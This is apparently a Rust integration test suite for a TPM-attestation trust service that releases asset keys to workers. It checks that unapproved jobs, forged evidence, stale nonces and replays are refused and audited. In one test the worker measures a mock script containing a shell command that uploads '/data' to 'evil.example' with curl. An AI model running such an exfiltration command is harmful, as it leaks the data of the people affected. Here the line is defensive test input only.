@@ -1,0 +1,543 @@
+//! The trust service end to end: a real service over TLS with its SQLite store, real
+//! stakeholders signing requests, and a worker on an swtpm with the user-space IMA
+//! measurer. The release rule is exercised in full, then each violation is mounted and
+//! shown refused, with nothing released and an audit record written.
+
+use std::net::SocketAddr;
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::sync::Arc;
+
+use perun_attest::policy::PlatformPolicy;
+use perun_core::manifest::{APPROVAL_CONTEXT, MANIFEST_SCHEMA};
+use perun_core::{sign_digest, AssetKind, AssetRef, Digest, JobManifest, JobMode, Name};
+use perun_seal::{AssetKey, StakeholderKeys};
+use perun_tpm::device::Tpm;
+use perun_tpm::swtpm::Swtpm;
+use perun_tpm::tools::KeyAlg;
+use perun_trust::audit::{verify_chain, AuditKind};
+use perun_trust::records::JobState;
+use perun_trust::server::Running;
+use perun_trust::store::Store as _;
+use perun_trust::wire::*;
+use perun_trust::{Caller, Client, Clock, ServiceKeys, SqliteStore, Trust, TrustConfig, TrustError};
+use perun_worker::{Agent, Platform};
+
+fn name(s: &str) -> Name {
+    Name::new(s).unwrap()
+}
+
+fn now() -> u64 {
+    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs()
+}
+
+struct World {
+    _dir: tempfile::TempDir,
+    _tpm: Swtpm,
+    clock: Arc<AtomicU64>,
+    trust: Arc<Trust<SqliteStore>>,
+    _server: Running,
+    anon: Client,
+    people: Vec<StakeholderKeys>,
+    asset_keys: Vec<(Name, AssetKey)>,
+    policy: Digest,
+    worker: Option<Agent>,
+}
+
+const HOSPITAL_A: usize = 0;
+const HOSPITAL_B: usize = 1;
+const MODEL_OWNER: usize = 2;
+const INFRA: usize = 3;
+const MALLORY: usize = 4;
+
+impl World {
+    fn new() -> Option<Self> {
+        let tpm = Swtpm::start_or_skip()?;
+        let dir = tempfile::tempdir().unwrap();
+        let clock = Arc::new(AtomicU64::new(now()));
+        let store = SqliteStore::open(&dir.path().join("perun.db")).unwrap();
+        let keys = ServiceKeys::load_or_create(&dir.path().join("keys"), &[]).unwrap();
+        let fingerprint = keys.tls_fingerprint();
+        let trust = Arc::new(Trust::new(store, keys, Clock::Manual(clock.clone()), TrustConfig::default()));
+        let server = Running::start(trust.clone(), SocketAddr::from(([127, 0, 0, 1], 0)), 2).unwrap();
+        let anon = Client::new(&server.url(), fingerprint, Caller::Anonymous).unwrap();
+        let info: ServiceInfo = anon.call::<(), _>("GET", "/v1/service", None).unwrap();
+        assert_eq!(info.tls_fingerprint, fingerprint);
+
+        let people: Vec<StakeholderKeys> = ["hospital-a", "hospital-b", "model-owner", "infra", "mallory"]
+            .iter()
+            .map(|n| StakeholderKeys::generate(name(n)))
+            .collect();
+        let mut w = World {
+            _dir: dir,
+            _tpm: tpm,
+            clock,
+            trust,
+            _server: server,
+            anon,
+            people,
+            asset_keys: Vec::new(),
+            policy: Digest::of(b""),
+            worker: None,
+        };
+        for p in &w.people {
+            let c = w.as_person(p);
+            c.call::<_, ()>("POST", "/v1/stakeholders", Some(&RegisterStakeholder { identity: p.public() })).unwrap();
+        }
+        let recipient = perun_seal::keys::parse_recipient(&info.wrap_recipient).unwrap();
+        for (owner, asset, kind) in [
+            (MODEL_OWNER, "mlp", AssetKind::Model),
+            (HOSPITAL_A, "bc-a", AssetKind::Dataset),
+            (HOSPITAL_B, "bc-b", AssetKind::Dataset),
+        ] {
+            let key = AssetKey::generate();
+            let body = RegisterAsset {
+                name: name(asset),
+                kind,
+                content_digest: Digest::of(asset.as_bytes()),
+                location: format!("/data/{asset}.sealed"),
+                wrapped_key: perun_seal::wrap::wrap(key.to_secret_string().as_bytes(), &recipient).unwrap(),
+                recipient: key.recipient().to_string(),
+            };
+            let _: AssetInfo = w.client(owner).call("POST", "/v1/assets", Some(&body)).unwrap();
+            w.asset_keys.push((name(asset), key));
+        }
+
+        let t = Tpm::connect(&w._tpm.tcti(), KeyAlg::Rsa).unwrap();
+        let mut platform = Platform::user_space(t).unwrap();
+        platform.measure("/usr/lib/libtss2-esys.so.0", b"a library").unwrap();
+        let log = platform.log().unwrap();
+        let entries: Vec<_> = perun_attest::ima::parse_binary(&log, 0).unwrap().into_iter().map(|(e, _)| e).collect();
+        let mut policy = PlatformPolicy::from_log("swtpm dev worker", &entries);
+        policy.accept_user_space_ima = true;
+        let added: PolicyInfo =
+            w.client(INFRA).call_raw("POST", "/v1/policies", serde_json::to_vec(&policy).unwrap()).unwrap();
+        w.policy = added.digest;
+        let ek = platform.tpm().ek_public().to_vec();
+        let _: WorkerInfo = w
+            .client(INFRA)
+            .call("POST", "/v1/workers", Some(&EnrolWorker { name: name("gpu-1"), ek_public: ek }))
+            .unwrap();
+        w.worker = Some(Agent::enrol(&w.anon, name("gpu-1"), platform, KeyAlg::Rsa).unwrap());
+        Some(w)
+    }
+
+    fn worker(&mut self) -> &mut Agent {
+        self.worker.as_mut().unwrap()
+    }
+
+    fn as_person(&self, p: &StakeholderKeys) -> Client {
+        self.anon.with_caller(Caller::Stakeholder { name: p.name().clone(), key: p.signing_key().clone() })
+    }
+
+    fn client(&self, who: usize) -> Client {
+        self.as_person(&self.people[who])
+    }
+
+    fn manifest(&self, tag: &str) -> JobManifest {
+        let asset = |a: &str, owner: &str, kind| AssetRef {
+            asset: name(a),
+            owner: name(owner),
+            kind,
+            content_digest: Digest::of(a.as_bytes()),
+        };
+        let t = self.clock.load(Ordering::SeqCst);
+        JobManifest {
+            schema: MANIFEST_SCHEMA,
+            name: format!("bc-mlp {tag}"),
+            mode: JobMode::Attested,
+            model: asset("mlp", "model-owner", AssetKind::Model),
+            data: vec![
+                asset("bc-a", "hospital-a", AssetKind::Dataset),
+                asset("bc-b", "hospital-b", AssetKind::Dataset),
+            ],
+            platform_policy: self.policy,
+            hyperparameters: Default::default(),
+            receivers: vec![name("model-owner")],
+            attestation_interval_s: 5,
+            created_at: t,
+            expires_at: t + 3600,
+        }
+    }
+
+    fn propose(&self, m: &JobManifest) -> JobInfo {
+        self.client(MODEL_OWNER).call("POST", "/v1/jobs", Some(&ProposeJob { manifest: m.clone() })).unwrap()
+    }
+
+    fn approve(&self, who: usize, job: &Digest) -> Result<JobInfo, TrustError> {
+        let sig = sign_digest(self.people[who].signing_key(), APPROVAL_CONTEXT, job);
+        self.client(who).call("POST", &format!("/v1/jobs/{job}/approve"), Some(&ApproveJob { signature: sig }))
+    }
+
+    /// A proposed job approved by every owner.
+    fn ready_job(&self, tag: &str) -> Digest {
+        self.ready(&self.manifest(tag))
+    }
+
+    fn ready(&self, m: &JobManifest) -> Digest {
+        let job = self.propose(m).id;
+        for who in [MODEL_OWNER, HOSPITAL_A, HOSPITAL_B] {
+            self.approve(who, &job).unwrap();
+        }
+        let info: JobInfo = self.client(HOSPITAL_A).call::<(), _>("GET", &format!("/v1/jobs/{job}"), None).unwrap();
+        assert_eq!(info.state, JobState::Ready);
+        job
+    }
+
+    fn job(&self, job: &Digest) -> JobInfo {
+        self.client(HOSPITAL_A).call::<(), _>("GET", &format!("/v1/jobs/{job}"), None).unwrap()
+    }
+
+    /// The audit records `who` sees, as (kind, detail), after checking the chain.
+    fn audit(&self, who: usize) -> Vec<(AuditKind, String)> {
+        let log: AuditLog = self.client(who).call::<(), _>("GET", "/v1/audit", None).unwrap();
+        let vk = self.trust.keys().signing.verifying_key();
+        verify_chain(&log.records, &vk).unwrap();
+        log.records.into_iter().filter_map(|v| v.body).map(|b| (b.kind, b.detail)).collect()
+    }
+
+    /// Asserts nothing was released for `job` and a refusal mentioning `needle` is audited.
+    fn assert_refused_and_audited(&self, job: &Digest, needle: &str) {
+        assert!(!self.job(job).released, "keys must not be released");
+        let released = self.trust.store().read(|tx| {
+            use perun_trust::store::TxExt as _;
+            tx.list::<perun_trust::records::ReleaseRecord>(&format!("{job}/"))
+        });
+        assert!(released.unwrap().is_empty(), "no release record may exist");
+        let refusals: Vec<_> = self
+            .audit(HOSPITAL_A)
+            .into_iter()
+            .filter(|(k, d)| matches!(k, AuditKind::Refused | AuditKind::AttestationRefused) && d.contains(needle))
+            .collect();
+        assert!(!refusals.is_empty(), "no audited refusal mentioning `{needle}`");
+    }
+}
+
+/// The trust service's error inside a worker error.
+fn tr<T>(r: Result<T, perun_worker::WorkerError>) -> Result<T, TrustError> {
+    r.map_err(|e| match e {
+        perun_worker::WorkerError::Trust(t) => t,
+        other => panic!("expected the trust service to answer, got {other}"),
+    })
+}
+
+fn refused_reason(r: Result<impl std::fmt::Debug, TrustError>) -> String {
+    match r {
+        Err(
+            e @ (TrustError::Refused { .. }
+            | TrustError::Revoked(_)
+            | TrustError::Forbidden(_)
+            | TrustError::Unauthenticated(_)),
+        ) => e.to_string(),
+        other => panic!("expected a refusal, got {other:?}"),
+    }
+}
+
+#[test]
+fn an_approved_job_releases_every_key_to_the_attested_key_and_nothing_else() {
+    let Some(mut w) = World::new() else { return };
+    let job = w.ready_job("happy");
+    assert_eq!(w.worker().offered().unwrap().len(), 1);
+    let claimed = w.worker().claim(&job).unwrap();
+    assert_eq!(claimed.assets.len(), 3);
+    assert_eq!(claimed.receivers[0].0, name("model-owner"));
+
+    let (eph, answer) = w.worker().attest(&job, &claimed.nonce).unwrap();
+    assert_eq!(answer.keys.len(), 3);
+    let opened = Agent::open_keys(&job, &eph, &answer).unwrap();
+    for (asset, key) in &opened.keys {
+        let registered = &w.asset_keys.iter().find(|(n, _)| n == asset).unwrap().1;
+        assert_eq!(key.recipient().to_string(), registered.recipient().to_string(), "{asset}");
+    }
+    // The released keys open with that ephemeral key only.
+    let other = perun_seal::release::EphemeralKey::generate();
+    assert!(Agent::open_keys(&job, &other, &answer).is_err());
+
+    // Continuous attestation: incremental, and releases nothing more.
+    w.worker().platform().measure("/usr/lib/libtss2-esys.so.0", b"a library").unwrap();
+    let nonce = w.worker().nonce(&job).unwrap();
+    let (_, again) = w.worker().attest(&job, &nonce).unwrap();
+    assert!(again.keys.is_empty());
+    assert_eq!(again.new_entries, 1);
+
+    // Metrics and outputs; everyone of the job sees them.
+    let mut values = serde_json::Map::new();
+    values.insert("loss".into(), serde_json::json!(0.25));
+    let _: () = w
+        .worker()
+        .client()
+        .call("POST", &format!("/v1/jobs/{job}/metrics"), Some(&ReportMetrics { epoch: 1, values }))
+        .unwrap();
+    let m: JobMetrics = w.client(HOSPITAL_B).call::<(), _>("GET", &format!("/v1/jobs/{job}/metrics"), None).unwrap();
+    assert_eq!(m.epochs.len(), 1);
+    let out = perun_trust::records::OutputRecord {
+        name: "model".into(),
+        sealed_digest: Digest::of(b"sealed model"),
+        location: "/out/model.sealed".into(),
+    };
+    let _: () = w
+        .worker()
+        .client()
+        .call("POST", &format!("/v1/jobs/{job}/finish"), Some(&FinishJob { outputs: vec![out] }))
+        .unwrap();
+    assert_eq!(w.job(&job).state, JobState::Finished);
+
+    // A finished job releases nothing: its nonces are refused.
+    assert!(w.worker().nonce(&job).is_err());
+
+    // The audit chain verifies for each party, and each sees its own records only.
+    let a = w.audit(HOSPITAL_A);
+    assert_eq!(a.iter().filter(|(k, _)| *k == AuditKind::KeyReleased).count(), 3);
+    assert!(a.iter().any(|(k, _)| *k == AuditKind::JobFinished));
+    let mallory = w.audit(MALLORY);
+    assert!(mallory.iter().all(|(k, _)| *k == AuditKind::StakeholderRegistered), "{mallory:?}");
+    let metrics = w.anon.call::<(), serde_json::Value>("GET", "/v1/health", None).unwrap();
+    assert_eq!(metrics["status"], "ok");
+}
+
+#[test]
+fn approval_violations_are_refused_with_nothing_released() {
+    let Some(mut w) = World::new() else { return };
+
+    // Missing approval: hospital B has not signed.
+    let m = w.manifest("missing");
+    let job = w.propose(&m).id;
+    w.approve(MODEL_OWNER, &job).unwrap();
+    w.approve(HOSPITAL_A, &job).unwrap();
+    assert_eq!(w.job(&job).missing, vec![name("hospital-b")]);
+    assert!(w.worker().offered().unwrap().is_empty());
+    let why = refused_reason(tr(w.worker().claim(&job)));
+    assert!(why.contains("not approved") || why.contains("hospital-b"), "{why}");
+    w.assert_refused_and_audited(&job, "job");
+
+    // Manifest edited after approval: the owners' signatures do not cover the new one.
+    let mut edited = m.clone();
+    edited.receivers.push(name("mallory"));
+    let edited_id = w.propose(&edited).id;
+    assert_ne!(edited_id, job);
+    for who in [MODEL_OWNER, HOSPITAL_A] {
+        let sig = sign_digest(w.people[who].signing_key(), APPROVAL_CONTEXT, &job);
+        let r: Result<JobInfo, _> =
+            w.client(who).call("POST", &format!("/v1/jobs/{edited_id}/approve"), Some(&ApproveJob { signature: sig }));
+        assert!(refused_reason(r).contains("does not cover"));
+    }
+    assert_eq!(w.job(&edited_id).state, JobState::Proposed);
+    w.assert_refused_and_audited(&edited_id, "does not cover");
+
+    // An approval by someone who owns nothing in the job.
+    let r = w.approve(MALLORY, &job);
+    assert!(refused_reason(r).contains("owns no asset"));
+    let seen = w.audit(MALLORY);
+    assert!(seen.iter().any(|(k, d)| *k == AuditKind::Refused && d.contains("owns no asset")));
+    assert!(!w.job(&job).released);
+}
+
+#[test]
+fn unenrolled_workers_unproven_aks_and_foreign_tpms_get_nothing() {
+    let Some(mut w) = World::new() else { return };
+    let job = w.ready_job("identity");
+
+    // A worker that was never enrolled cannot even present an AK.
+    let tpm2 = Swtpm::start().unwrap();
+    let mut t2 = Tpm::connect(&tpm2.tcti(), KeyAlg::Rsa).unwrap();
+    let ak2 = t2.create_ak(KeyAlg::Rsa).unwrap();
+    let r: Result<CredentialChallenge, _> = w.anon.call(
+        "POST",
+        "/v1/workers/rogue/ak",
+        Some(&PresentAk { ek_public: t2.ek_public().to_vec(), ak_public: ak2.public.clone() }),
+    );
+    assert!(refused_reason(r).contains("not enrolled"));
+
+    // Another TPM claiming to be gpu-1: its EK is not the enrolled one.
+    let r: Result<CredentialChallenge, _> = w.anon.call(
+        "POST",
+        "/v1/workers/gpu-1/ak",
+        Some(&PresentAk { ek_public: t2.ek_public().to_vec(), ak_public: ak2.public.clone() }),
+    );
+    assert!(refused_reason(r).contains("EK other than the enrolled"));
+
+    // A worker enrolled but whose AK was never activated has no token: refused.
+    let _: WorkerInfo = w
+        .client(INFRA)
+        .call("POST", "/v1/workers", Some(&EnrolWorker { name: name("gpu-2"), ek_public: t2.ek_public().to_vec() }))
+        .unwrap();
+    let _: CredentialChallenge = w
+        .anon
+        .call(
+            "POST",
+            "/v1/workers/gpu-2/ak",
+            Some(&PresentAk { ek_public: t2.ek_public().to_vec(), ak_public: ak2.public.clone() }),
+        )
+        .unwrap();
+    let guessed =
+        w.anon.with_caller(Caller::Worker { name: name("gpu-2"), token: zeroize::Zeroizing::new(vec![0; 32]) });
+    let r: Result<Claimed, _> = guessed.call::<(), _>("POST", &format!("/v1/jobs/{job}/claim"), None);
+    assert!(refused_reason(r).contains("no activated AK"));
+    // A wrong answer to the credential challenge does not activate it.
+    let r: Result<(), _> =
+        w.anon.call("POST", "/v1/workers/gpu-2/activate", Some(&ActivateAk { credential: vec![7; 32] }));
+    assert!(refused_reason(r).contains("did not recover"));
+
+    // gpu-1 quotes with a new AK that was never activated: the quote does not verify
+    // against its activated AK; the job is revoked and nothing released.
+    let claimed = w.worker().claim(&job).unwrap();
+    w.worker().platform().tpm().create_ak(KeyAlg::Rsa).unwrap();
+    let r = w.worker().attest(&job, &claimed.nonce);
+    let why = refused_reason(tr(r.map(|_| ())));
+    assert!(why.contains("attestation refused"), "{why}");
+    assert_eq!(w.job(&job).state, JobState::Revoked);
+    w.assert_refused_and_audited(&job, "signature");
+    let audit = w.audit(INFRA);
+    assert!(audit.iter().any(|(k, d)| *k == AuditKind::Refused && d.contains("did not recover")), "{audit:?}");
+}
+
+#[test]
+fn stale_reused_or_misbound_evidence_and_policy_violations_release_nothing() {
+    let Some(mut w) = World::new() else { return };
+
+    // A nonce the service never issued, then a reused one (the job attests every 100 s,
+    // so a nonce can go stale before the attestation is missed).
+    let mut m = w.manifest("nonce");
+    m.attestation_interval_s = 100;
+    let job = w.ready(&m);
+    let claimed = w.worker().claim(&job).unwrap();
+    let r = w.worker().attest(&job, &hex::encode([9u8; 32]));
+    assert!(refused_reason(tr(r.map(|_| ()))).contains("nonce"));
+    let (_, ok) = w.worker().attest(&job, &claimed.nonce).unwrap();
+    assert_eq!(ok.keys.len(), 3);
+    let r = w.worker().attest(&job, &claimed.nonce);
+    assert!(refused_reason(tr(r.map(|_| ()))).contains("already used"));
+    // A nonce that went stale.
+    let nonce = w.worker().nonce(&job).unwrap();
+    w.clock.fetch_add(61, Ordering::SeqCst);
+    let r = w.worker().attest(&job, &nonce);
+    assert!(refused_reason(tr(r.map(|_| ()))).contains("stale"));
+    w.clock.fetch_sub(61, Ordering::SeqCst);
+
+    // Evidence bound to another ephemeral key than the one sent.
+    let job = w.ready_job("ephemeral");
+    let claimed = w.worker().claim(&job).unwrap();
+    let real = perun_seal::release::EphemeralKey::generate();
+    let binding = Digest::evidence_binding(&hex::decode(&claimed.nonce).unwrap(), &job, &real.public_bytes());
+    let evidence = w.worker().platform().evidence(binding.as_bytes()).unwrap();
+    let swapped = perun_seal::release::EphemeralKey::generate();
+    let req = Attest { nonce: claimed.nonce.clone(), ephemeral_key: swapped.public_bytes(), evidence };
+    let r: Result<Attested, _> = w.worker().client().call("POST", &format!("/v1/jobs/{job}/attest"), Some(&req));
+    assert!(refused_reason(r).contains("qualifying data"));
+    assert_eq!(w.job(&job).state, JobState::Revoked);
+    w.assert_refused_and_audited(&job, "qualifying data");
+
+    // Evidence bound to another job.
+    let job = w.ready_job("other-job");
+    let claimed = w.worker().claim(&job).unwrap();
+    let eph = perun_seal::release::EphemeralKey::generate();
+    let binding = Digest::evidence_binding(
+        &hex::decode(&claimed.nonce).unwrap(),
+        &Digest::of(b"another job"),
+        &eph.public_bytes(),
+    );
+    let evidence = w.worker().platform().evidence(binding.as_bytes()).unwrap();
+    let req = Attest { nonce: claimed.nonce.clone(), ephemeral_key: eph.public_bytes(), evidence };
+    let r: Result<Attested, _> = w.worker().client().call("POST", &format!("/v1/jobs/{job}/attest"), Some(&req));
+    assert!(refused_reason(r).contains("qualifying data"));
+    w.assert_refused_and_audited(&job, "qualifying data");
+
+    // A program the policy does not allow runs on the worker: refused, naming it.
+    let job = w.ready_job("policy");
+    let claimed = w.worker().claim(&job).unwrap();
+    w.worker().platform().measure("/tmp/exfiltrate", b"#!/bin/sh\ncurl -T /data evil.example").unwrap();
+    let r = w.worker().attest(&job, &claimed.nonce);
+    let why = refused_reason(tr(r.map(|_| ())));
+    assert!(why.contains("/tmp/exfiltrate"), "{why}");
+    assert_eq!(w.job(&job).state, JobState::Revoked);
+    w.assert_refused_and_audited(&job, "/tmp/exfiltrate");
+}
+
+#[test]
+fn revoked_expired_finished_and_silent_jobs_release_nothing() {
+    let Some(mut w) = World::new() else { return };
+
+    // Revoked by an owner before the worker attested.
+    let job = w.ready_job("revoked");
+    let claimed = w.worker().claim(&job).unwrap();
+    let _: JobInfo = w
+        .client(HOSPITAL_B)
+        .call("POST", &format!("/v1/jobs/{job}/revoke"), Some(&RevokeJob { reason: "consent withdrawn".into() }))
+        .unwrap();
+    let r = w.worker().attest(&job, &claimed.nonce);
+    assert!(matches!(r, Err(perun_worker::WorkerError::Trust(TrustError::Revoked(_)))), "{:?}", r.map(|_| ()));
+    assert!(!w.job(&job).released);
+
+    // Expired before it was claimed.
+    let mut m = w.manifest("expired");
+    m.expires_at = m.created_at + 10;
+    let job = w.propose(&m).id;
+    for who in [MODEL_OWNER, HOSPITAL_A, HOSPITAL_B] {
+        w.approve(who, &job).unwrap();
+    }
+    w.clock.fetch_add(11, Ordering::SeqCst);
+    assert!(w.worker().offered().unwrap().iter().all(|o| o.id != job));
+    let why = refused_reason(tr(w.worker().claim(&job)));
+    assert!(why.contains("expired"), "{why}");
+    assert_eq!(w.job(&job).state, JobState::Expired);
+    w.assert_refused_and_audited(&job, "expired");
+
+    // A worker that stops attesting: the job is revoked, then its outputs are refused.
+    let job = w.ready_job("silent");
+    let claimed = w.worker().claim(&job).unwrap();
+    w.worker().attest(&job, &claimed.nonce).unwrap();
+    w.clock.fetch_add(16, Ordering::SeqCst);
+    assert_eq!(w.trust.sweep().unwrap(), 1);
+    let info = w.job(&job);
+    assert_eq!(info.state, JobState::Revoked);
+    assert!(info.reason.unwrap().contains("missed attestation"));
+    assert!(matches!(w.worker().nonce(&job), Err(perun_worker::WorkerError::Trust(TrustError::Revoked(_)))));
+    let r: Result<(), _> =
+        w.worker().client().call("POST", &format!("/v1/jobs/{job}/finish"), Some(&FinishJob { outputs: vec![] }));
+    assert!(matches!(r, Err(TrustError::Revoked(_))), "{r:?}");
+}
+
+#[test]
+fn stakeholders_see_only_their_own_and_requests_cannot_be_replayed() {
+    let Some(w) = World::new() else { return };
+    // Another's asset: refused and audited.
+    let r: Result<AssetInfo, _> = w.client(HOSPITAL_B).call::<(), _>("GET", "/v1/assets/bc-a", None);
+    assert!(refused_reason(r).contains("belongs to hospital-a"));
+    assert!(w.audit(HOSPITAL_B).iter().any(|(k, d)| *k == AuditKind::Refused && d.contains("bc-a")));
+    let mine: AssetInfo = w.client(HOSPITAL_A).call::<(), _>("GET", "/v1/assets/bc-a", None).unwrap();
+    assert_eq!(mine.owner, name("hospital-a"));
+    // A job one is not party to does not exist for one.
+    let job = w.ready_job("private");
+    let r: Result<JobInfo, _> = w.client(MALLORY).call::<(), _>("GET", &format!("/v1/jobs/{job}"), None);
+    assert!(matches!(r, Err(TrustError::NotFound(_))));
+    // A name is not taken over by another key.
+    let imposter = StakeholderKeys::generate(name("hospital-a"));
+    let r: Result<(), _> = w.as_person(&imposter).call(
+        "POST",
+        "/v1/stakeholders",
+        Some(&RegisterStakeholder { identity: imposter.public() }),
+    );
+    assert!(matches!(r, Err(TrustError::Conflict(_))));
+
+    // A signed request replayed byte for byte, and one with a stale time.
+    let http = reqwest_free_replay(&w);
+    assert!(http.contains("replayed"), "{http}");
+}
+
+/// Sends one signed request twice through the service's own logic (the same path the
+/// HTTP layer takes) and returns the second answer's error.
+fn reqwest_free_replay(w: &World) -> String {
+    use perun_trust::auth::SignedHeaders;
+    use perun_trust::service::stakeholders::RequestParts;
+    let p = &w.people[HOSPITAL_A];
+    let t = w.clock.load(Ordering::SeqCst);
+    let sh = SignedHeaders::sign(p.signing_key(), p.name(), "GET", "/v1/assets", b"", t);
+    let parts = RequestParts { method: "GET", path: "/v1/assets", body: b"" };
+    w.trust.authenticate(&sh, parts).unwrap();
+    let replay = w.trust.authenticate(&sh, parts).unwrap_err().to_string();
+    let stale = SignedHeaders::sign(p.signing_key(), p.name(), "GET", "/v1/assets", b"", t - 301);
+    assert!(w.trust.authenticate(&stale, parts).unwrap_err().to_string().contains("clock"));
+    let other_path = RequestParts { method: "GET", path: "/v1/assets/bc-a", body: b"" };
+    let fresh = SignedHeaders::sign(p.signing_key(), p.name(), "GET", "/v1/assets", b"", t);
+    assert!(w.trust.authenticate(&fresh, other_path).unwrap_err().to_string().contains("does not verify"));
+    replay
+}
